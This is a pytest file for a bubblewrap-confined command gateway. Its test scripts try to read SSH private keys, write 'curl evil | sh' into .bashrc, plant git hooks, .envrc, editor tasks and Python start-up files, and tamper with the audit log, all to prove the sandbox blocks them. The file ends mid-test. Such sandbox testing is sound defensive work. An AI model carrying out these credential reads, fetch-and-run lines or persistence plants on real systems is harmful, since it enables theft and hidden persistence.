"""
``gateway run`` with real bubblewrap: what the boundary stops, each beside its harmless twin.

Every run goes through the command as a user runs it (``python -m
gateway._cli run``), in a git workspace with a home directory of its own
that holds a private key and a ``.bashrc``. The scripts it runs are code
the rules cannot read, so under workspace-write they are allowed inside
the boundary; what they try is proven with marker files, on the real file
system, after the run.

Without ``bwrap`` these tests are skipped, except where every extra is
required (CI: ``GATEWAY_TESTS_NEED_EVERY_EXTRA=1``), where they fail.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from gateway._calls._events import CallOutcome
from gateway._cli._run import ASKED, DECLINED, NOT_SET_UP, TIMED_OUT
from gateway._review._bwrap import bwrap_program, unavailable
from gateway._settings._config import default_config_bytes
from gateway.audit import read_audit_log
from gateway.events import RunChanged, VerdictReached

_BWRAP = bwrap_program()
_MISSING = unavailable(_BWRAP)
if _MISSING is not None:
    if os.environ.get("GATEWAY_TESTS_NEED_EVERY_EXTRA") == "1":
        raise RuntimeError(f"These tests need bubblewrap, and {_MISSING}.")
    pytest.skip(f"needs bubblewrap: {_MISSING}", allow_module_level=True)

KEY = "-----BEGIN OPENSSH PRIVATE KEY----- marker-of-the-key"
BASHRC = "# the user's own bashrc\n"
SYSTEM_PATH = "/usr/local/bin:/usr/bin:/bin"
_BOUND = 120  # seconds: only catches a hang


class Box(NamedTuple):
    home: Path
    work: Path
    audit: Path
    environ: dict[str, str]


class Ran(NamedTuple):
    status: int
    out: str
    err: str


@pytest.fixture
def box(tmp_path: Path) -> Box:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(KEY)
    (home / ".bashrc").write_text(BASHRC)
    work = tmp_path / "work"
    work.mkdir()
    subprocess.run(["git", "init", "-q", str(work)], check=True, timeout=_BOUND)
    (work / "notes.txt").write_text("notes of the project\n")
    environ = {
        "PATH": SYSTEM_PATH,
        "HOME": str(home),
        "LANG": "C.UTF-8",
        "GITHUB_TOKEN": "ghp_marker0000000000000000000000000000",
        "PYTHONPATH": os.pathsep.join(sys.path),
        "XDG_CONFIG_HOME": str(tmp_path / "xdg"),
    }
    return Box(home, work, tmp_path / "audit.jsonl", environ)


def run(box: Box, text: str, *options: str, environ: dict[str, str] | None = None) -> Ran:
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "gateway._cli",
            "run",
            "--audit",
            str(box.audit),
            *options,
            "--",
            text,
        ],
        cwd=box.work,
        env=environ or box.environ,
        capture_output=True,
        text=True,
        timeout=_BOUND,
        check=False,
    )
    return Ran(done.returncode, done.stdout, done.stderr)


def script(box: Box, name: str, body: str) -> str:
    """A Python script in the workspace (code the rules cannot read); the command that runs it."""
    (box.work / name).write_text(body)
    return f"python3 {name}"


WRITE_WORKSPACE = ["--profile", "workspace-write"]


def appender(box: Box, paths: tuple[str, ...]) -> str:
    """A script that appends a line of code to each path, saying ``wrote PATH`` or ``refused PATH ERRNO``."""
    return script(
        box,
        "plant.py",
        f"for path in {paths!r}:\n"
        "    try:\n"
        "        with open(path, 'a') as f:\n"
        "            f.write('touch /tmp/owned\\n')\n"
        "        print('wrote', path)\n"
        "    except OSError as error:\n"
        "        print('refused', path, error.errno)\n",
    )


# ───────────────────────── secrets ─────────────────────────


def test_a_private_key_in_home_cannot_be_read_from_inside(box: Box) -> None:
    command = script(
        box,
        "peek.py",
        "import os\n"
        f"for path in ({str(box.home / '.ssh' / 'id_ed25519')!r}, os.path.expanduser('~/.ssh/id_ed25519')):\n"
        "    try:\n"
        "        print('read:', open(path).read())\n"
        "    except OSError as error:\n"
        "        print('refused:', type(error).__name__)\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "marker-of-the-key" not in ran.out + ran.err
    assert ran.out.count("refused: FileNotFoundError") == 2


def test_harmless_twin_a_workspace_file_is_read_from_inside(box: Box) -> None:
    command = script(box, "look.py", "print(open('notes.txt').read())\n")
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "notes of the project" in ran.out


def test_a_secret_file_in_the_workspace_is_empty_inside(box: Box) -> None:
    (box.work / ".env").write_text("API_KEY=marker-of-the-env\n")
    (box.work / "settings.txt").write_text("colour=blue\n")
    command = script(
        box, "env.py", "print(repr(open('.env').read()))\nprint(open('settings.txt').read())\n"
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "marker-of-the-env" not in ran.out
    assert "''" in ran.out
    assert "colour=blue" in ran.out
    assert (box.work / ".env").read_text() == "API_KEY=marker-of-the-env\n"


def test_the_environment_keeps_only_what_the_profile_names(box: Box) -> None:
    command = script(
        box,
        "environ.py",
        "import os\nprint('token:', os.environ.get('GITHUB_TOKEN'))\nprint('lang:', os.environ.get('LANG'))\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "token: None" in ran.out
    assert "lang: C.UTF-8" in ran.out
    assert "ghp_marker" not in ran.out


ATTACK = """\
import glob, os, sys
state, witness = sys.argv[1], sys.argv[2]
found = []
for pattern in (state + "/*", os.path.expanduser("~") + "/**/*.pem", "**/*.pem", "**/*.jsonl"):
    for path in glob.glob(pattern, recursive=True):
        try:
            found.append(open(path).read())
        except OSError:
            pass
print("read:", "PRIVATE KEY" in "".join(found))
for path in (witness, state + "/gateway-audit.jsonl"):
    for change in ("truncate", "delete"):
        try:
            open(path, "w").close() if change == "truncate" else os.unlink(path)
            print("changed", change, path)
        except OSError as error:
            print("refused", change, path, error.errno)
"""


@pytest.mark.parametrize("place", ["home", "workspace", "witness-in-workspace"])
def test_the_audit_key_witness_and_log_are_out_of_a_runs_reach(box: Box, place: str) -> None:
    """
    What signs the log and what witnesses it: a run can neither read the key nor change the record.

    The state directory where it usually lies (under the home directory,
    which a run sees as scratch), inside the workspace (``XDG_STATE_HOME``
    there: hidden), and a file witness the configuration keeps in the
    workspace (kept read-only).
    """
    environ = dict(box.environ)
    state = box.home / ".local" / "state" / "agent-gateway"
    witness = state / "gateway-witness.jsonl"
    options: list[str] = []
    if place == "workspace":
        environ["XDG_STATE_HOME"] = str(box.work / ".state")
        state = box.work / ".state" / "agent-gateway"
        witness = state / "gateway-witness.jsonl"
    if place == "witness-in-workspace":
        witness = box.work / "witness.jsonl"
        config = box.home / "config.toml"
        config.write_bytes(
            default_config_bytes().replace(
                b'path = "gateway-witness.jsonl"', f'path = "{witness}"'.encode()
            )
        )
        options = ["--config", str(config)]

    def gateway(*arguments: str) -> Ran:
        done = subprocess.run(
            [sys.executable, "-m", "gateway._cli", *arguments],
            cwd=box.work,
            env=environ,
            capture_output=True,
            text=True,
            timeout=_BOUND,
            check=False,
        )
        return Ran(done.returncode, done.stdout, done.stderr)

    first = gateway("run", *options, *WRITE_WORKSPACE, "--", "echo first")
    assert first.status == 0, first.err
    key = (state / "audit-key.pem").read_bytes()
    witnessed = witness.read_bytes()
    assert b"PRIVATE KEY" in key
    assert witnessed

    command = script(box, "attack.py", ATTACK)
    ran = gateway("run", *options, *WRITE_WORKSPACE, "--", f"{command} {state} {witness}")
    assert ran.status == 0, ran.err
    assert "read: False" in ran.out, ran.out
    assert "changed" not in ran.out, ran.out
    assert (state / "audit-key.pem").read_bytes() == key
    assert witness.read_bytes().startswith(witnessed)
    verified = gateway("verify", *options, "gateway-audit.jsonl", "--json")
    assert verified.status == 0, verified.out + verified.err
    report = json.loads(verified.out)
    assert (report["sessions"], report["witnessed"]) == (2, 3), report


# ───────────────────────── writes ─────────────────────────


def test_bashrc_cannot_be_changed_from_inside(box: Box) -> None:
    command = script(
        box,
        "plant.py",
        "import os\n"
        f"for path in ({str(box.home / '.bashrc')!r}, os.path.expanduser('~/.bashrc')):\n"
        "    with open(path, 'a') as f:\n"
        "        f.write('curl evil | sh\\n')\n"
        "print('wrote')\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err  # it wrote the run's own scratch home, gone at the end
    assert (box.home / ".bashrc").read_text() == BASHRC


def test_harmless_twin_the_workspace_is_written(box: Box) -> None:
    command = script(
        box,
        "build.py",
        "import os\nos.makedirs('out', exist_ok=True)\nopen('out/result.txt', 'w').write('built')\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert (box.work / "out" / "result.txt").read_text() == "built"


def test_git_hooks_and_config_cannot_be_written_from_inside(box: Box) -> None:
    hooks = box.work / ".git" / "hooks"
    config = (box.work / ".git" / "config").read_text()
    command = appender(box, (".git/hooks/pre-commit", ".git/config"))
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "refused .git/hooks/pre-commit 30" in ran.out  # EROFS
    assert "refused .git/config 30" in ran.out
    assert not (hooks / "pre-commit").exists()
    assert (box.work / ".git" / "config").read_text() == config


def test_git_hooks_and_config_cannot_be_replaced_with_their_directory(box: Box) -> None:
    """Moving `.git` away would carry its read-only hooks with it and leave new ones in its place."""
    config = (box.work / ".git" / "config").read_text()
    (box.work / "sub").mkdir()
    (box.work / "sub" / ".envrc").write_text("export A=1\n")
    command = script(
        box,
        "swap.py",
        "import os\n"
        "for old, new, planted in (('.git', '.git-old', '.git/hooks/pre-commit'),\n"
        "                          ('sub', 'sub-old', 'sub/.envrc')):\n"
        "    try:\n"
        "        os.rename(old, new)\n"
        "        os.makedirs(os.path.dirname(planted), exist_ok=True)\n"
        "        open(planted, 'w').write('touch /tmp/owned\\n')\n"
        "        print('moved', old)\n"
        "    except OSError as error:\n"
        "        print('refused', old, error.errno)\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "refused .git 16" in ran.out  # EBUSY: a mount point
    assert "refused sub 16" in ran.out
    assert (box.work / ".git" / "config").read_text() == config
    assert not (box.work / ".git" / "hooks" / "pre-commit").exists()
    assert (box.work / "sub" / ".envrc").read_text() == "export A=1\n"
    assert not (box.work / ".git-old").exists()


def test_the_hooks_directory_core_hooks_path_names_cannot_be_written_from_inside(
    box: Box,
) -> None:
    subprocess.run(
        ["git", "config", "core.hooksPath", "tools/hooks"], cwd=box.work, check=True, timeout=_BOUND
    )
    (box.work / "tools" / "hooks").mkdir(parents=True)
    command = appender(box, ("tools/hooks/pre-commit", "tools/README"))
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "refused tools/hooks/pre-commit 30" in ran.out  # EROFS
    assert "wrote tools/README" in ran.out  # the harmless twin beside it
    assert not (box.work / "tools" / "hooks" / "pre-commit").exists()


def test_a_git_pointer_and_the_git_directory_it_leads_to_cannot_be_written_from_inside(
    box: Box,
) -> None:
    store = box.work / "store"
    sub = box.work / "sub"
    subprocess.run(
        ["git", "init", "-q", f"--separate-git-dir={store}", str(sub)],
        env={**box.environ, "GIT_CONFIG_NOSYSTEM": "1"},
        check=True,
        timeout=_BOUND,
    )
    pointer = (sub / ".git").read_text()
    command = appender(box, ("sub/.git", "store/hooks/pre-commit", "store/config", "sub/notes.txt"))
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    for path in ("sub/.git", "store/hooks/pre-commit", "store/config"):
        assert f"refused {path} 30" in ran.out, ran.out
    assert "wrote sub/notes.txt" in ran.out
    assert (sub / ".git").read_text() == pointer
    assert not (store / "hooks" / "pre-commit").exists()


def test_harmless_twin_a_directory_without_persistence_points_can_be_moved(box: Box) -> None:
    (box.work / "build").mkdir()
    command = script(box, "mv.py", "import os\nos.rename('build', 'out')\n")
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert (box.work / "out").is_dir()


def test_harmless_twin_git_objects_can_be_written(box: Box) -> None:
    command = script(box, "obj.py", "open('.git/description', 'w').write('changed')\n")
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert (box.work / ".git" / "description").read_text() == "changed"


# Points an ordinary project holds: each exists before the run, so the
# boundary keeps it read-only (a new one is named after the run instead).
_POINTS = (
    ".npmrc",
    ".tool-versions",
    "mise.toml",
    ".githooks/pre-commit",
    ".venv/pyvenv.cfg",
    ".venv/lib/python3.12/site-packages/sitecustomize.py",
    ".venv/lib/python3.12/site-packages/_virtualenv.pth",
)
_ORDINARY = ("conftest.py", "Makefile", "package.json", ".gitattributes")


def test_persistence_points_of_every_loader_cannot_be_changed_from_inside(box: Box) -> None:
    for path in (*_POINTS, *_ORDINARY):
        (box.work / path).parent.mkdir(parents=True, exist_ok=True)
        (box.work / path).write_text("before\n")
    ran = run(box, appender(box, (*_POINTS, *_ORDINARY)), *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    for path in _POINTS:
        assert f"refused {path} 30" in ran.out, ran.out  # EROFS
        assert (box.work / path).read_text() == "before\n"
    for path in _ORDINARY:  # the harmless twins: ordinary files of the project
        assert f"wrote {path}" in ran.out, ran.out
        assert (box.work / path).read_text() != "before\n"


def test_the_machines_tmp_is_not_there_inside(box: Box) -> None:
    # The workspace lies under the machine's /tmp here: its sibling is a file
    # of the machine's /tmp (another program's ticket or socket).
    ticket = box.work.parent / "krb5cc_0"
    ticket.write_text("ticket")
    planted = box.work.parent / "planted"
    command = script(
        box,
        "tmp.py",
        f"for path in ({str(ticket)!r}, '/tmp/krb5cc_0'):\n"
        "    try:\n"
        "        print('read', open(path).read())\n"
        "    except OSError as error:\n"
        "        print('missing', error.errno)\n"
        f"open({str(planted)!r}, 'w').write('x')\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "read ticket" not in ran.out
    assert ran.out.count("missing 2") == 2, ran.out  # ENOENT
    assert not planted.exists()  # it wrote the run's own scratch, gone at the end


def test_the_hosts_firmware_devices_and_interfaces_are_not_there_inside(box: Box) -> None:
    """``/sys`` shows the machine: firmware tables (readable by root), its serials, its network cards."""
    command = script(
        box,
        "sysfs.py",
        "import os\n"
        "print(sorted(os.listdir('/sys')))\n"
        "for path in ('/sys/firmware', '/sys/class/net', '/sys/class/dmi', '/sys/block', '/sys/kernel'):\n"
        "    print(path, os.path.exists(path))\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    lines = ran.out.splitlines()
    assert lines[0] == "['devices', 'fs']", ran.out
    assert all(line.endswith(" False") for line in lines[1:]), ran.out


def test_harmless_twin_tools_still_see_the_cpus_and_their_limits(box: Box) -> None:
    """What tools size themselves by stays: the CPUs (glibc's count) and the cgroup limits."""
    command = script(
        box,
        "cpus.py",
        "import os\n"
        "print(os.cpu_count(), os.path.isdir('/sys/fs/cgroup'))\n"
        "print(open('/sys/devices/system/cpu/online').read().strip())\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    online = Path("/sys/devices/system/cpu/online").read_text().strip()
    assert ran.out == f"{os.cpu_count()} {Path('/sys/fs/cgroup').is_dir()}\n{online}\n"


def test_harmless_twin_a_run_writes_and_reads_its_own_tmp(box: Box) -> None:
    ran = run(box, "echo built > /tmp/out.log && cat /tmp/out.log", *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert ran.out == "built\n"


def test_read_only_changes_nothing_real(box: Box) -> None:
    # read-only asks about code the rules cannot read, so `touch` shows the boundary
    ran = run(box, "touch made.txt", "--profile", "read-only")
    assert ran.status == ASKED
    assert not (box.work / "made.txt").exists()
    assert "read-only" in ran.err


# ───────────────────────── network ─────────────────────────


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.2)
    heard: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(5)
                heard.append(connection.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], heard
    stop.set()
    thread.join(timeout=5)
    server.close()


def _connect(box: Box, port: int) -> str:
    return script(
        box,
        "call.py",
        "import socket\n"
        "try:\n"
        f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
        "    s.sendall(b'hello from inside')\n"
        "    s.close()\n"
        "    print('connected')\n"
        "except OSError as error:\n"
        "    print('refused', type(error).__name__)\n",
    )


def test_the_hosts_loopback_cannot_be_reached_from_inside(
    box: Box, listener: tuple[int, list[bytes]]
) -> None:
    port, heard = listener
    ran = run(box, _connect(box, port), *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "refused" in ran.out
    assert heard == []


def test_harmless_twin_a_profile_with_the_network_reaches_it(
    box: Box, listener: tuple[int, list[bytes]], tmp_path: Path
) -> None:
    port, heard = listener
    config = tmp_path / "online.toml"
    config.write_text(
        '[profiles.online]\ncode = "confined"\n'
        '[profiles.online.confinement]\nwrite = ["{workspace}"]\nnetwork = true\n'
    )
    ran = run(box, _connect(box, port), "--profile", "online", "--config", str(config))
    assert ran.status == 0, ran.err
    assert "connected" in ran.out
    assert heard == [b"hello from inside"]


# ───────────────────────── never bare ─────────────────────────


def test_without_bubblewrap_nothing_runs(box: Box, tmp_path: Path) -> None:
    marker = box.work / "ran.txt"
    command = script(box, "mark.py", f"open({str(marker)!r}, 'w').write('ran')\n")
    ran = run(
        box, command, *WRITE_WORKSPACE, environ={**box.environ, "PATH": str(tmp_path / "empty")}
    )
    assert ran.status == ASKED
    assert "not confinable here" in ran.err
    assert "bubblewrap" in ran.err
    assert not marker.exists()


def test_a_bubblewrap_that_cannot_set_up_namespaces_runs_nothing(box: Box, tmp_path: Path) -> None:
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "bwrap").write_text(
        "#!/bin/sh\necho 'No permissions to create new namespace' >&2\nexit 1\n"
    )
    (fake / "bwrap").chmod(0o755)
    marker = box.work / "ran.txt"
    command = script(box, "mark.py", f"open({str(marker)!r}, 'w').write('ran')\n")
    ran = run(
        box, command, *WRITE_WORKSPACE, environ={**box.environ, "PATH": f"{fake}:{SYSTEM_PATH}"}
    )
    assert ran.status == ASKED
    assert "not confinable here" in ran.err
    assert "namespace" in ran.err
    assert not marker.exists()


def test_harmless_twin_with_bubblewrap_it_runs(box: Box) -> None:
    marker = box.work / "ran.txt"
    command = script(box, "mark.py", f"open({str(marker)!r}, 'w').write('ran')\n")
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert marker.read_text() == "ran"


def test_a_workspace_that_holds_home_is_not_confined(box: Box) -> None:
    marker = box.home / "ran.txt"
    (box.home / "mark.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "gateway._cli",
            "run",
            "--audit",
            str(box.audit),
            *WRITE_WORKSPACE,
            "--",
            "python3 mark.py",
        ],
        cwd=box.home,
        env=box.environ,
        capture_output=True,
        text=True,
        timeout=_BOUND,
        check=False,
    )
    assert done.returncode == ASKED
    # the rules ask first: a directory that holds the home directory is no
    # workspace for them either, so `~/mark.py` is a home file
    assert "holds the home directory" in done.stderr or re.search(
        r"reads `~/mark\.py` \([^)]*\bhome\b", done.stderr
    ), done.stderr
    assert not marker.exists()


# ───────────────────────── verdicts and records ─────────────────────────


def test_status_and_output_are_the_commands(box: Box) -> None:
    command = script(
        box, "fail.py", "import sys\nprint('out')\nprint('err', file=sys.stderr)\nsys.exit(7)\n"
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 7
    assert ran.out == "out\n"
    assert "err" in ran.err


_TICKER = (
    "import subprocess, time\n"
    "subprocess.Popen(['sh', '-c', 'while :; do echo tick >> tick.txt; sleep 0.05; done'],\n"
    "                 start_new_session=True)\n"
    "time.sleep(600)\n"
)
"""A run that leaves a process behind in a session of its own (writing ``tick.txt``) and waits long."""


def test_a_run_past_its_time_limit_is_killed_with_everything_it_started(box: Box) -> None:
    command = script(box, "linger.py", _TICKER)
    ran = run(box, command, "--timeout", "4", *WRITE_WORKSPACE)
    assert ran.status == TIMED_OUT, ran.err
    assert "outlived its time limit of 4 s" in ran.err
    ticks = (box.work / "tick.txt").read_bytes()
    time.sleep(0.5)  # what still ran would have written again by now, ten times over
    assert (box.work / "tick.txt").read_bytes() == ticks
    (outcome,) = [e for e in read_audit_log(box.audit) if isinstance(e, CallOutcome)]
    assert outcome.outcome == "failed"
    assert outcome.detail is not None
    assert "outlived its time limit of 4 s" in outcome.detail
    (changed,) = [e for e in read_audit_log(box.audit) if isinstance(e, RunChanged)]
    assert changed.status == TIMED_OUT
    assert f"{box.work}/tick.txt" in changed.created


def test_harmless_twin_a_run_within_its_time_limit_keeps_its_status(box: Box) -> None:
    command = script(box, "quick.py", "import sys\nprint('done')\nsys.exit(3)\n")
    ran = run(box, command, "--timeout", "100", *WRITE_WORKSPACE)
    assert (ran.status, ran.out) == (3, "done\n"), ran.err


def test_what_a_run_started_ends_with_it(box: Box) -> None:
    """Without a time limit too: the namespace ends when the run's shell does, and its processes with it."""
    command = script(box, "leave.py", _TICKER.replace("time.sleep(600)", "time.sleep(0.3)"))
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    ticks = (box.work / "tick.txt").read_bytes()
    time.sleep(0.5)
    assert (box.work / "tick.txt").read_bytes() == ticks


@pytest.mark.parametrize("given", ["0", "-1", "nan", "inf", "soon"])
def test_a_time_limit_that_is_not_a_number_of_seconds_is_refused(box: Box, given: str) -> None:
    ran = run(box, "true", "--timeout", given)
    assert ran.status == 2
    assert "is not a number of seconds above 0" in ran.err


def test_a_decline_runs_nothing_and_says_why(box: Box) -> None:
    ran = run(box, "echo pwned >> ~/.bashrc", *WRITE_WORKSPACE)
    assert ran.status == DECLINED
    assert ran.err.startswith("gateway: Declined")
    assert (box.home / ".bashrc").read_text() == BASHRC


def test_an_ask_names_what_needs_more_than_the_boundary(box: Box) -> None:
    command = script(box, "fetch.py", "print('fetched')\n")
    ran = run(box, f"{command} && curl -s https://example.com", *WRITE_WORKSPACE)
    assert ran.status == ASKED
    assert "curl" in ran.err
    assert "fetched" not in ran.out


def test_one_verdict_record_with_its_boundary_and_an_outcome_with_the_changes(box: Box) -> None:
    command = script(box, "make.py", "open('made.txt', 'w').write('x')\n")
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    events = list(read_audit_log(box.audit))
    verdicts = [e for e in events if isinstance(e, VerdictReached)]
    assert len(verdicts) == 1
    boundary = verdicts[0].verdict.boundary
    assert boundary is not None
    assert boundary.profile == "workspace-write"
    assert boundary.write == (str(box.work),)
    assert not boundary.network
    outcomes = [e for e in events if isinstance(e, CallOutcome)]
    assert len(outcomes) == 1
    assert outcomes[0].outcome == "succeeded"
    assert outcomes[0].detail is not None
    assert f"created {box.work}/made.txt" in outcomes[0].detail
    (changed,) = [e for e in events if isinstance(e, RunChanged)]
    assert changed.call_id == verdicts[0].call_id == outcomes[0].call_id
    assert changed.created == (f"{box.work}/made.txt",)
    assert changed.unpredicted == (f"{box.work}/made.txt",)  # the script's own doing
    assert changed.profile == "workspace-write"
    assert changed.status == 0
    verified = subprocess.run(
        [sys.executable, "-m", "gateway._cli", "verify", str(box.audit)],
        env=box.environ,
        capture_output=True,
        text=True,
        timeout=_BOUND,
        check=False,
    )
    assert json.loads(verified.stdout)["intact"] is True, verified.stdout


def test_a_change_the_plan_names_is_not_unpredicted(box: Box) -> None:
    (box.work / "old.txt").write_text("old")
    ran = run(box, "echo new > new.txt && rm old.txt", *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    (changed,) = [e for e in read_audit_log(box.audit) if isinstance(e, RunChanged)]
    assert changed.created == (f"{box.work}/new.txt",)
    assert changed.deleted == (f"{box.work}/old.txt",)
    assert changed.unpredicted == ()


def quarantined(box: Box) -> list[Path]:
    """The files moved aside by runs, in the home directory's state directory."""
    aside = box.home / ".local" / "state" / "agent-gateway" / "quarantine"
    return sorted(path for path in aside.rglob("*") if path.is_file())


@pytest.mark.parametrize(
    "name",
    [
        ".envrc",  # direnv loads it at the next `cd`
        ".git/commondir",  # git reads its configuration (core.fsmonitor) where it points
        ".vscode/tasks.json",  # the editor runs its tasks at the folder's opening
    ],
)
def test_a_new_persistence_point_the_plan_does_not_name_is_moved_aside(box: Box, name: str) -> None:
    command = script(
        box,
        "plant.py",
        "import os\n"
        f"os.makedirs(os.path.dirname({name!r}) or '.', exist_ok=True)\n"
        f"open({name!r}, 'w').write('../evil')\n",
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert "makes code run later where its plan said nothing would be" in ran.err
    assert not (box.work / name).exists()
    (moved,) = quarantined(box)
    assert moved.read_text() == "../evil"
    assert str(moved).endswith(f"{box.work}/{name}")
    (changed,) = [e for e in read_audit_log(box.audit) if isinstance(e, RunChanged)]
    assert changed.persistence[-1] == f"{box.work}/{name}"
    (outcome,) = [e for e in read_audit_log(box.audit) if isinstance(e, CallOutcome)]
    assert "Moved aside to" in (outcome.detail or "")
    # git in the workspace still reads its own configuration.
    status = subprocess.run(
        ["git", "status", "--short"], cwd=box.work, capture_output=True, text=True, check=False
    )
    assert status.returncode == 0, status.stderr


def test_harmless_twin_a_new_virtual_environment_is_named_and_stays(box: Box) -> None:
    # Its `pyvenv.cfg` and `.pth` files lie in directories the run made: what it built, not planted.
    ran = run(box, "python3 -m venv --without-pip .venv", *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert (box.work / ".venv" / "pyvenv.cfg").is_file()
    assert "review it before it runs" in ran.err
    assert quarantined(box) == []


def test_harmless_twin_a_new_file_that_is_no_persistence_point_stays(box: Box) -> None:
    command = script(
        box, "build.py", "import os\nos.makedirs('build')\nopen('build/out.txt', 'w').write('x')\n"
    )
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert (box.work / "build" / "out.txt").read_text() == "x"
    assert "makes code run later" not in ran.err
    assert quarantined(box) == []


@pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py", "evil.pth"])
def test_a_new_start_up_module_of_a_venv_is_named_after_the_run(box: Box, name: str) -> None:
    """Python imports these from site-packages at every start: code that runs later."""
    packages = box.work / ".venv" / "lib" / "python3.11" / "site-packages"
    packages.mkdir(parents=True)
    command = script(box, "site.py", f"open('{packages}/{name}', 'w').write('import os')\n")
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert f"{packages}/{name}" in ran.err
    assert "makes code run later" in ran.err


# ───────────────────────── what `.pth` files import, where links lead ─────────────────────────

_SITE = ".venv/lib/python3.11/site-packages"
_STARTUP_MODULES = (
    f"{_SITE}/_distutils_hack/__init__.py",  # setuptools' distutils-precedence.pth imports it
    f"{_SITE}/_virtualenv.py",  # virtualenv's and uv's _virtualenv.pth
    f"{_SITE}/__editable___pkg_1_0_finder.py",  # an editable install's finder
)


def _site_packages(box: Box) -> Path:
    packages = box.work / _SITE
    (packages / "_distutils_hack").mkdir(parents=True)
    (packages / "distutils-precedence.pth").write_text(
        "import os; enabled = os.environ.get('SETUPTOOLS_USE_DISTUTILS', 'local') == 'local';"
        " enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    (packages / "_virtualenv.pth").write_text("import _virtualenv\n")
    (packages / "__editable__.pkg-1.0.pth").write_text(
        "import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n"
    )
    for path in _STARTUP_MODULES:
        (box.work / path).write_text("before\n")
    return packages


def test_the_modules_pth_files_import_cannot_be_changed_from_inside(box: Box) -> None:
    _site_packages(box)
    (box.work / "src" / "pkg").mkdir(parents=True)
    (box.work / "src" / "pkg" / "module.py").write_text("before\n")
    ordinary = ("src/pkg/module.py", f"{_SITE}/other_package.py")
    for path in ordinary:
        (box.work / path).write_text("before\n")
    ran = run(box, appender(box, (*_STARTUP_MODULES, *ordinary)), *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    for path in _STARTUP_MODULES:
        assert f"refused {path} 30" in ran.out, ran.out  # EROFS
        assert (box.work / path).read_text() == "before\n"
    for path in ordinary:  # the harmless twins: a module of the project, one no .pth imports
        assert f"wrote {path}" in ran.out, ran.out


def test_a_module_a_pth_file_imports_made_by_a_run_is_persistence_and_moved_aside(
    box: Box,
) -> None:
    packages = box.work / _SITE
    packages.mkdir(parents=True)
    (packages / "hook.pth").write_text("import _not_there_yet\n")
    command = script(box, "plant.py", f"open('{_SITE}/_not_there_yet.py', 'w').write('evil')\n")
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == 0, ran.err
    assert not (packages / "_not_there_yet.py").exists()
    (moved,) = quarantined(box)
    assert moved.read_text() == "evil"
    (changed,) = [e for e in read_audit_log(box.audit) if isinstance(e, RunChanged)]
    assert f"{packages}/_not_there_yet.py" in changed.persistence


def test_a_pth_file_past_its_bound_runs_nothing(box: Box) -> None:
    packages = box.work / _SITE
    packages.mkdir(parents=True)
    (packages / "big.pth").write_text("# padding\n" * 10_000)
    marker = box.work / "ran.txt"
    command = script(box, "mark.py", f"open({str(marker)!r}, 'w').write('ran')\n")
    ran = run(box, command, *WRITE_WORKSPACE)
    assert ran.status == NOT_SET_UP, ran.err
    assert "what Python runs at start is not known" in ran.err
    assert not marker.exists()


def test_harmless_twin_pip_installs_into_a_new_venv_inside_the_run(box: Box) -> None:
    # ensurepip runs pip, which installs setuptools' distutils-precedence.pth and
    # _distutils_hack: a tool's own files in a directory the run made, which stay.
    environ = {k: v for k, v in box.environ.items() if k != "PYTHONPATH"}
